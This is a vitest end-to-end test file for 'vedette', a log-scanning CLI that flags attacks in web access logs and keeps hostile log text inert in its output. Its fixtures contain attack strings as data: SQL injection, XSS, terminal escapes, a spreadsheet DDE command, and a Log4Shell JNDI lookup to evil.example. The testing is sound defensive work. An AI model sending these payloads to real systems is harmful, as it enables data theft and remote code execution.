/** The real program on real files: what a person meets, good input and bad. */
import { spawnSync } from "node:child_process";
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

const PROGRAM = join(import.meta.dirname, "../../dist/vedette.js");
const folder = mkdtempSync(join(tmpdir(), "vedette-e2e-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

function vedette(args: readonly string[], input?: string | Buffer) {
  const done = spawnSync(process.execPath, [PROGRAM, ...args], {
    cwd: folder,
    encoding: "utf8",
    maxBuffer: 1 << 28,
    ...(input === undefined ? {} : { input }),
  });
  return { code: done.status, out: done.stdout, err: done.stderr };
}

interface Report {
  version: number;
  source: Record<string, unknown>;
  incidents: { severity: string; title: string; entity: { value: string }; detections: string[] }[];
  detections: {
    id: string;
    category: string;
    entity: { value: string };
    samples: { file: string; line: number }[];
  }[];
  blind_spots: { field: string; advice: string }[];
}

function report(...args: string[]): Report {
  const { out, err } = vedette(["scan", ...args, "--output", "json"]);
  if (out === "") throw new Error(err);
  return JSON.parse(out) as Report;
}

function file(name: string, content: string | Uint8Array): string {
  writeFileSync(join(folder, name), content);
  return name;
}

const TIME = "02/Mar/2026:10:00";
const line = (client: string, second: number, request: string, status = 200, agent = "Mozilla/5.0") =>
  `${client} - - [${TIME}:${String(second % 60).padStart(2, "0")} +0000] "${request}" ${status} 512 "-" "${agent}"\n`;
const ordinary = Array.from({ length: 60 }, (_, i) => line(`198.51.100.${i}`, i, "GET /items HTTP/1.1")).join(
  "",
);
const attack = Array.from({ length: 12 }, (_, i) =>
  line("192.0.2.7", i, `GET /items?id=${i}%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1`, 403),
).join("");

beforeAll(() => {
  file("access.log", ordinary + attack);
});

describe("vedette scan", () => {
  it("tells an attack in its JSON form, with the lines that show it", () => {
    const { version, source, incidents, detections, blind_spots } = report("access.log");
    expect(version).toBe(1);
    expect(source).toEqual({
      files: ["access.log"],
      format: "nginx-combined",
      lines: 72,
      parsed: 72,
      skipped: 0,
      first_time: "2026-03-02T10:00:00.000Z",
      last_time: "2026-03-02T10:00:59.000Z",
    });
    expect(incidents).toHaveLength(1);
    expect(incidents[0]?.entity.value).toBe("192.0.2.7");
    const [detection] = detections.filter(({ category }) => category === "injection");
    expect(detection?.samples[0]).toMatchObject({ file: "access.log", line: 61 });
    expect(blind_spots.map(({ field }) => field)).toContain("duration_ms");
  });

  it("exits with 1 only when an incident is as grave as asked", () => {
    expect(vedette(["scan", "access.log"]).code).toBe(0);
    expect(vedette(["scan", "access.log", "--fail-on", "low"]).code).toBe(1);
    expect(vedette(["scan", "access.log", "--fail-on", "critical"]).code).toBe(0);
  });

  it("reads standard input, gzip, folders and rotated sets, and gives the same verdict on threads", () => {
    const whole = report("access.log");
    const piped = vedette(["scan", "-", "--output", "json"], ordinary + attack);
    const titles = (found: Report) => found.incidents.map(({ title }) => title);
    expect(titles(JSON.parse(piped.out) as Report)).toEqual(titles(whole));
    mkdirSync(join(folder, "rotated"), { recursive: true });
    file("rotated/access.log", attack.replaceAll(TIME, "02/Mar/2026:12:00"));
    file("rotated/access.log.1", ordinary.replaceAll(TIME, "02/Mar/2026:11:00"));
    file("rotated/access.log.2.gz", gzipSync(ordinary));
    const rotated = report("rotated");
    expect(titles(rotated)).toEqual(titles(whole));
    expect(rotated.source.first_time).toBe("2026-03-02T10:00:00.000Z");
    expect(rotated.source.last_time).toBe("2026-03-02T12:00:11.000Z");
    expect(report("rotated", "--threads", "2")).toEqual(rotated);
  });

  it("puts the report where it is told", () => {
    expect(vedette(["scan", "access.log", "--out", "report.txt"]).out).toBe("");
    expect(readFileSync(join(folder, "report.txt"), "utf8")).toContain("SQL injection");
    expect(vedette(["scan", "access.log", "--out", "nowhere/report.txt"])).toMatchObject({ code: 3 });
  });

  it("takes a log_format string and a field mapping", () => {
    file("custom.log", `192.0.2.9|GET /a HTTP/1.1|200|0.012\n`.repeat(5));
    const custom = report("custom.log", "--format", "$remote_addr|$request|$status|$request_time");
    expect(custom.source).toMatchObject({ parsed: 5, skipped: 0 });
    file(
      "odd.ndjson",
      `${JSON.stringify({ at: "2026-03-02T10:00:00Z", ctx: { uid: "ann" }, verb: "GET", path: "/a", status: 200, ip: "192.0.2.9" })}\n`.repeat(
        5,
      ),
    );
    const mapped = report("odd.ndjson", "--map", "user.id=ctx.uid");
    expect(mapped.blind_spots.map(({ field }) => field)).not.toContain("user.id");
  });
});

describe("bad input", () => {
  it.each([
    [["scan"], 2, "USAGE"],
    [["scan", "access.log", "--format", "nonsense"], 2, "FORMAT_UNKNOWN"],
    [["scan", "access.log", "--map", "nonsense"], 2, "MAPPING_INVALID"],
    [["scan", "access.log", "--map", "no.such.field=x"], 2, "MAPPING_INVALID"],
    [["scan", "access.log", "--fail-on", "grave"], 2, "grave"],
    [["scan", "access.log", "--nonsense"], 2, "nonsense"],
    [["scan", "missing.log"], 3, "INPUT_NOT_FOUND"],
    [["nonsense"], 2, "nonsense"],
  ] as const)("%j exits with %i and says %s", (args, code, text) => {
    const done = vedette(args);
    expect(done.code).toBe(code);
    expect(done.err).toContain(text);
    expect(done.out).toBe("");
  });

  it("names the file and what it looks like, for empty, binary and foreign files", () => {
    file("empty.log", "");
    file("blank.log", "\n\n\n");
    file("binary.bin", Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919) % 256)));
    file("prose.txt", "The quick brown fox.\nJumps over the lazy dog.\n".repeat(20));
    for (const [name, code] of [
      ["empty.log", "INPUT_EMPTY"],
      ["blank.log", "INPUT_EMPTY"],
      ["binary.bin", "INPUT_NOT_A_LOG"],
      ["prose.txt", "INPUT_NOT_A_LOG"],
    ] as const) {
      const done = vedette(["scan", name]);
      expect(done.code, name).toBe(3);
      expect(done.err).toContain(name);
      expect(done.err).toContain(code);
    }
  });

  it("scans the rest when some inputs cannot be read", () => {
    file("locked.log", attack);
    chmodSync(join(folder, "locked.log"), 0o000);
    const done = vedette(["scan", "access.log", "missing.log", "empty.log"]);
    expect(done.code).toBe(0);
    expect(done.out).toContain("SQL injection");
    expect(done.out).toContain("missing.log");
    expect(done.out).toContain("empty.log");
  });

  it("scans what a truncated archive still holds, and says that it is damaged", () => {
    const many = (ordinary + attack).repeat(300);
    const packed = gzipSync(many);
    file("cut.log.gz", packed.subarray(0, packed.length - 200));
    const done = vedette(["scan", "cut.log.gz"]);
    expect(done.code).toBe(0);
    expect(done.out).toContain("SQL injection");
    expect(done.out).toContain("gzip data ends or breaks");
  });

  it("passes over a line of twenty megabytes and lines that fit no format, and names them", () => {
    const huge = `${ordinary}${"x".repeat(20 << 20)}\n${attack}this is no log line\n`;
    const done = vedette(["scan", file("huge.log", huge)]);
    expect(done.code).toBe(0);
    expect(done.out).toContain("SQL injection");
    expect(done.out).toContain("longer than 1 MiB");
    expect(done.out).toContain("Line 74 fits no known format");
  });

  it("survives NULs, bytes that are no UTF-8, clocks running backwards, and files of mixed formats", () => {
    const json = `${JSON.stringify({ timestamp: "2026-03-02T10:01:00Z", "client.address": "198.51.100.9", "http.request.method": "GET", "url.path": "/x", "http.response.status_code": 200 })}\n`;
    const bytes = Buffer.concat([
      Buffer.from(attack.replaceAll("02/Mar/2026", "05/Mar/2026")),
      Buffer.from(ordinary),
      Buffer.from(json.repeat(20)),
      Buffer.from([0xff, 0xfe, 0x00, 0x80, 0x0a]),
      Buffer.from("\u0000\u0000\u0000\n"),
      Buffer.from(line("198.51.100.3", 1, "GET /caf\u00e9 HTTP/1.1")),
    ]);
    const { source, incidents } = report(file("mixed.log", bytes));
    expect(source).toMatchObject({ parsed: 12 + 60 + 20 + 1 });
    expect(incidents).toHaveLength(1);
  });
});

const ESCAPE = String.fromCharCode(27);
const COLOUR = new RegExp(`${ESCAPE}\\[[0-9;]*m`, "g");
const activeIn = (text: string) => [...text].filter((char) => char !== "\n" && /[\p{Cc}\p{Cf}]/u.test(char));

describe("text from a log", () => {
  const hostile = [
    "GET /\\x1b[2J\\x1b[31mred HTTP/1.1",
    "GET /%1b]0;title%07/.env HTTP/1.1",
    "GET /?q=%27%20UNION%20SELECT%201,2,3%20FROM%20users--%1b[31m HTTP/1.1",
    "GET /?x=<script>alert(1)</script> HTTP/1.1",
    "GET /=cmd|'/c calc'!A1 HTTP/1.1",
    `GET /$${"{jndi:ldap://evil.example/a}"} HTTP/1.1`,
    "GET /\u202egnp.exe/.git/config HTTP/1.1",
  ];

  it("is inert in every output", () => {
    const name = file(
      "hostile.log",
      hostile
        .map((request, i) => line("192.0.2.66", i, request, 404, "a\u001b[31mb\u0007"))
        .join("")
        .repeat(3),
    );
    const text = vedette(["scan", name, "--color"]).out;
    expect(activeIn(text.replaceAll(COLOUR, ""))).toEqual([]);
    expect(activeIn(vedette(["scan", name]).out)).toEqual([]);
    const html = vedette(["scan", name, "--output", "html"]).out;
    expect(html).not.toContain("<script>alert(1)");
    expect(html).not.toContain("\u001b");
    expect(() => JSON.parse(vedette(["scan", name, "--output", "json"]).out)).not.toThrow();
  });

  it("obeys what a settings file says of detection, and refuses what it cannot mean", () => {
    const said = (yaml: string) => report("access.log", "--config", file("vedette.yaml", yaml));
    expect(said("port: 4800\n").incidents.map(({ entity }) => entity.value)).toEqual(["192.0.2.7"]);
    expect(said("detection:\n  detectors:\n    injection: { enabled: false }\n").detections).toEqual([]);
    const expected = said(`detection:
  exceptions:
    - { entity: { type: client.address, value: 192.0.2.0/28 }, reason: our own scanner }
`);
    expect(expected.incidents).toEqual([]);
    expect(expected.detections).toMatchObject([
      { severity: "info", exception: { reason: "our own scanner" } },
    ]);
    const wrong = vedette([
      "scan",
      "access.log",
      "--config",
      file("wrong.yaml", "detection: { detectors: { x: {} } }"),
    ]);
    expect(wrong.code).toBe(2);
    expect(wrong.err).toContain("[CONFIG_INVALID]");
  });
});
